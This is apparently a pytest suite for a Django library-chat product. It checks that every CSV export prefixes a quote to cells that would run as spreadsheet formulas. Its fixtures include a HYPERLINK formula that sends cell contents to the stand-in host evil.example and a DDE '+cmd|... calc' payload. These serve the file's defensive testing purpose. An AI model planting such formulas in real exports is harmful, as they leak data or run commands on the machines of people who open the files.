"""Every CSV the product writes neutralises cells a spreadsheet would run as formulas (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from consortium import csv_safe
from routing.models import Chat
from tests.factories import PASSWORD, make_consortium, make_library, make_staff

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("value", [
    "=1+1", HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "-x", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-", "+", "@",
])
def test_cells_that_start_a_formula_get_a_quote(value: str) -> None:
    assert csv_safe.cell(value) == "'" + value


@pytest.mark.parametrize("value", [
    "books", "", "a=b", "tax forms", "'=already quoted", " =1", "-12", "+3.5", "-0.25", "-1e5", "12",
    "2026-03-02T10:15:00+00:00",
])
def test_plain_text_and_plain_numbers_are_left_alone(value: str) -> None:
    assert csv_safe.cell(value) == value


@pytest.mark.parametrize("value", [-5, -1.5, 0, 42, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert csv_safe.cell(value) is value


def test_the_writer_quotes_every_cell_of_every_row() -> None:
    out = io.StringIO()
    csv_safe.writer(out).writerows([["tag", "n"], [HOSTILE, -3], ["-", "-4"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["tag", "n"], ["'" + HOSTILE, "-3"], ["'-", "-4"]]


@pytest.fixture
def hostile_consortium(db: Any) -> dict[str, Any]:
    c = make_consortium("csvx", timezone="UTC")
    lib = make_library(c, "lib")
    # Usernames may start with "-", "+" or "@" (Django allows them); the language and the subjects are
    # a patron's and a librarian's free text.
    librarian = make_staff(lib, "@librarian")
    coordinator = make_staff(lib, "cora", role="coordinator")
    now = timezone.now()
    Chat.objects.create(
        consortium=c, home_library=lib, question="q", token_hash="x", created_at=now, arrived_at=now,
        last_activity_at=now, state="ended", answered_by=librarian, first_accepted_at=now + timedelta(seconds=5),
        accepted_at=now + timedelta(seconds=5), ended_at=now + timedelta(seconds=65), subjects=[HOSTILE, "books"],
        language="=1+2", answered_step="local")
    client = Client()
    assert client.login(username=coordinator.user.username, password=PASSWORD)
    return {"consortium": c, "library": lib, "client": client}


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_the_chats_report_neutralises_staff_and_patron_text(hostile_consortium: dict[str, Any]) -> None:
    r = hostile_consortium["client"].get("/api/v1/csvx/reports/chats.csv")
    assert r.status_code == 200
    header, row = rows(r.content)
    got = dict(zip(header, row, strict=True))
    assert got["librarian"] == "'@librarian"
    assert got["language"] == "'=1+2"
    assert got["wait_seconds"] == "5" and got["duration_seconds"] == "60", "numbers are untouched"


def test_the_statistics_subjects_csv_neutralises_subject_tags(hostile_consortium: dict[str, Any]) -> None:
    today = timezone.now().date().isoformat()  # the consortium is on UTC
    base = f"/coordinator/csvx/statistics/?since={today}&until={today}"
    r = hostile_consortium["client"].get(base + "&csv=subjects")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert sorted(rows(r.content)[1:]) == sorted([["'" + HOSTILE, "1"], ["books", "1"]])
    for table in ("libraries", "matrix", "balance", "hours", "surveys", "read", "who"):
        body = hostile_consortium["client"].get(base + f"&csv={table}").content.decode()
        assert all(not line.startswith(("=", "+", "@")) for line in body.splitlines()), table


def test_every_csv_writer_goes_through_the_helper() -> None:
    # A new writer that called csv.writer directly would skip the quoting.
    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for app in ("consortium", "libraries", "routing", "coordination")
                 for p in (root / app).rglob("*.py")
                 if p.name != "csv_safe.py" and ("csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text())]
    assert offenders == []
